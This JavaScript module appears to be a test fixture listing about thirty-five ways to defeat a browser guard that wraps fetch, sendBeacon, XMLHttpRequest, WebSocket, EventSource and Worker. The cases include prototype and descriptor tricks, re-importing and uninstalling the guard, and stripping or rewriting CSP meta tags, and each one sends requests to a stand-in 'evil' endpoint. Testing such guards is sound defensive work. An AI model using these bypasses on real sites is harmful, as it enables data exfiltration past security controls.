// The original, back from under its wrapper.
export default {
  delete: ({ send }) => {
    for (const [object, name] of [
      [window, "fetch"],
      [window, "EventSource"],
      [window, "WebSocket"],
      [Navigator.prototype, "sendBeacon"],
      [XMLHttpRequest.prototype, "open"],
    ])
      Reflect.deleteProperty(object, name);
    send();
    new Image().src = "data:,x";
  },
  defineProperty: ({ evil }) => {
    const { fetch: before } = window;
    try {
      Object.defineProperty(window, "fetch", { value: before, configurable: true, writable: true });
    } catch {}
    return fetch(evil, { mode: "no-cors" });
  },
  "a descriptor's value or getter": ({ evil }) => {
    const descriptor = Object.getOwnPropertyDescriptor(window, "fetch");
    return (descriptor.value ?? descriptor.get.call(undefined)).call(window, evil, { mode: "no-cors" });
  },
  "a descriptor's getter on another": ({ add, evil }) => {
    add("iframe");
    const descriptor = Object.getOwnPropertyDescriptor(window, "fetch");
    return (descriptor.value ?? descriptor.get.call(window[0])).call(window, evil, { mode: "no-cors" });
  },
  "a descriptor's setter": ({ evil }) => {
    const descriptor = Object.getOwnPropertyDescriptor(window, "fetch");
    let caught = fetch;
    descriptor.set?.call(window, undefined);
    caught = descriptor.get?.call(window) ?? caught;
    return caught.call(window, evil, { mode: "no-cors" });
  },
  __lookupGetter__: ({ evil }) => {
    const get = window.__lookupGetter__("fetch");
    return (get ? get.call({}) : fetch)(evil, { mode: "no-cors" });
  },
  __defineGetter__: ({ evil }) => {
    const before = Navigator.prototype.sendBeacon;
    try {
      Navigator.prototype.__defineGetter__("sendBeacon", () => before);
    } catch {}
    return navigator.sendBeacon(evil, "x");
  },
  "another prototype for navigator": ({ evil }) => {
    const before = Navigator.prototype.sendBeacon;
    Object.setPrototypeOf(navigator, { sendBeacon: before });
    return navigator.sendBeacon.call(navigator, evil, "x");
  },
  "an own property of navigator": ({ evil }) => {
    Object.defineProperty(navigator, "sendBeacon", { value: Object.getPrototypeOf(navigator).sendBeacon });
    return navigator.sendBeacon(evil, "x");
  },
  "an own property of a request": ({ evil }) => {
    const x = new XMLHttpRequest();
    Object.defineProperty(x, "open", { value: x.open });
    x.open("GET", evil);
    x.send();
  },
  "another prototype for a request": ({ evil }) => {
    const x = new XMLHttpRequest();
    const open = Reflect.get(XMLHttpRequest.prototype, "open", {});
    Object.setPrototypeOf(x, XMLHttpRequestEventTarget.prototype);
    open.call(x, "GET", evil);
    Object.setPrototypeOf(x, XMLHttpRequest.prototype);
    x.send();
  },
  "the constructor of a prototype": ({ socket }) => void new WebSocket.prototype.constructor(socket),
  "the constructor of an instance": ({ own, socket }) => {
    const one = new WebSocket(`${own.replace("http", "ws")}/x`);
    void new one.constructor(socket);
  },
  "the constructor of an event source": ({ evil }) => void new EventSource.prototype.constructor(evil),
  "the constructor of a worker": ({ blob, sends }) =>
    void new Worker.prototype.constructor(blob(sends, "text/javascript")),
  super: ({ socket }) => {
    class Mine extends WebSocket {
      constructor() {
        super(socket);
      }
    }
    void new Mine();
  },
  "the prototype of a subclass": ({ socket }) => {
    class Mine extends WebSocket {}
    void Reflect.construct(Object.getPrototypeOf(Mine), [socket]);
  },
  "Reflect.construct for another": ({ socket }) => void Reflect.construct(WebSocket, [socket], class {}),
  "Reflect.construct for Object": ({ evil }) => void Reflect.construct(EventSource, [evil], Object),
  "Reflect.get with a receiver": ({ evil }) => Reflect.get(window, "fetch", {})(evil, { mode: "no-cors" }),
  "Reflect.set with a receiver": ({ evil }) => {
    const into = {};
    Reflect.set(window, "fetch", fetch, into);
    return (into.fetch ?? fetch)(evil, { mode: "no-cors" });
  },
  with: `({ evil }) => { with (window) { return fetch(evil, { mode: "no-cors" }); } }`,
  "an object that inherits from the page": ({ evil }) =>
    Object.create(window).fetch.call(window, evil, { mode: "no-cors" }),
  "a copy of the page": ({ evil }) =>
    ({ ...window }).fetch?.call(window, evil, { mode: "no-cors" }) ?? fetch(evil, { mode: "no-cors" }),
  bind: ({ evil }) => fetch.bind(window, evil, { mode: "no-cors" })(),
  "call on nothing": ({ evil }) => fetch.call(undefined, evil, { mode: "no-cors" }),
  "the source of a function": ({ evil }) => {
    const text = Function.prototype.toString.call(fetch);
    const again = text.includes("[native code]") ? fetch : (0, eval)(`(${text})`);
    return again(evil, { mode: "no-cors" });
  },
  "a getter in the way of the original": ({ evil }) => {
    let caught;
    Object.defineProperty(Object.prototype, "fetch", {
      set(value) {
        caught = value;
      },
      configurable: true,
    });
    return (caught ?? fetch)(evil, { mode: "no-cors" });
  },
  "the module, imported again": async ({ own, evil }) => {
    const again = await import(`${own}/guard-module.js?again`);
    try {
      again.installGuard({ connect: ["*"] }, { pinCsp: false });
    } catch {}
    return fetch(evil, { mode: "no-cors" });
  },
  "the module, and its uninstall": async ({ own, evil }) => {
    const again = await import(`${own}/guard-module.js?twice`);
    again.installGuard({ connect: ["*"] }, { pinCsp: false }).uninstall();
    return fetch(evil, { mode: "no-cors" });
  },
  "the policy's meta removed": ({ send }) => {
    for (const meta of document.querySelectorAll("meta")) meta.remove();
    send();
  },
  "the policy's meta changed": ({ send }) => {
    for (const meta of document.querySelectorAll("meta[http-equiv]")) meta.content = "default-src * 'unsafe-inline'";
    send();
  },
  "another head": ({ send }) => {
    document.head.replaceWith(document.createElement("head"));
    send();
  },
  "a document written anew": ({ evil, script }) => {
    document.open();
    document.write(script(`fetch("${evil}", { mode: "no-cors" })`));
    document.close();
  },
  "a document written anew, its image": ({ evil }) => {
    document.open();
    document.write(`<img src="${evil}">`);
    document.close();
  },
};
